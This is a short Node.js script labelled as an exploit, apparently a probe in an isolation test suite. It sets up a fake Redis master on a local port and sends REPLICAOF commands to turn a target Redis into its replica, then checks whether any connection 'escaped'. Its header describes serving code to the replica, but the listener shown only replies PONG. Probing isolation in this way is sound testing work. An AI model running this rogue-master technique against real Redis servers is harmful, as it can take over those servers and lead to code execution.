// exploit: plays a master that hands its replica a file of code, and makes its Redis that replica
// outcome: finished
// says: nobody came
// part: no
// job: {"services":["redis"]}
const net = require('node:net')
const { createClient } = require('redis')

async function attack() {
  let came = 0
  const server = net.createServer((socket) => {
    came += 1
    socket.on('error', () => {}).write('+PONG\r\n')
  })
  await new Promise((resolve) => server.listen(6400, '127.0.0.1', resolve))
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  await client.sendCommand(['REPLICAOF', '127.0.0.1', '6400'])
  await new Promise((resolve) => setTimeout(resolve, 1500))
  await client.sendCommand(['REPLICAOF', '__HOST_ADDRESS__', '__HOST_PORT__'])
  await new Promise((resolve) => setTimeout(resolve, 1200))
  console.log(came === 0 ? 'nobody came' : `ESCAPED ${came}`)
  process.exit()
}
attack()
